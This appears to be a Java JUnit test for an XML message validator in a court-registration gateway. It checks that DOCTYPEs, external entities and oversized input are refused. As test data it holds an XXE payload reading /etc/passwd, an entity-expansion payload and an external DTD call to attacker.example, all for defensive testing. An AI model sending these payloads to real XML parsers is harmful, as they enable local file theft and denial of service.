package org.csx.gateway.registration;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CourtAnswerMessageCheckTest {

    private static final String VALID = "<CourtAnswer xmlns=\"urn:csx:registration:1\"><RegistrationId>r-1</RegistrationId>"
            + "<Answer>FILED</Answer><DocketNumber>KF-1</DocketNumber></CourtAnswer>";

    private final CourtAnswerMessageCheck check = new CourtAnswerMessageCheck();

    @Test
    void aValidAnswerMayBeRead() {
        assertThat(check.refusal(VALID)).isEmpty();
        assertThat(check.refusal("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + VALID)).isEmpty();
    }

    @Test
    void doctypesExternalEntitiesAndEntityExpansionAreRefused() {
        assertThat(check.refusal("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + VALID.replace("KF-1", "&x;")))
                .hasValueSatisfying(r -> assertThat(r).contains("DOCTYPE").doesNotContain("passwd"));
        assertThat(check.refusal("<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>" + VALID.replace("KF-1", "&b;")))
                .hasValueSatisfying(r -> assertThat(r).contains("DOCTYPE"));
        assertThat(check.refusal("<!DOCTYPE CourtAnswer SYSTEM \"http://attacker.example/x.dtd\">" + VALID)).isPresent();
    }

    @Test
    void invalidOtherOrOversizedMessagesAreRefused() {
        assertThat(check.refusal(VALID.replace("FILED", "WHATEVER"))).hasValueSatisfying(r -> assertThat(r).contains("valid"));
        assertThat(check.refusal("<Transmittal xmlns=\"urn:csx:transmittal:1\"/>")).isPresent();
        assertThat(check.refusal("not xml")).isPresent();
        assertThat(check.refusal("")).isPresent();
        assertThat(check.refusal(null)).isPresent();
        assertThat(check.refusal(VALID.replace("</CourtAnswer>", "<!--" + "x".repeat(70_000) + "--></CourtAnswer>")))
                .hasValueSatisfying(r -> assertThat(r).contains("larger than"));
    }
}
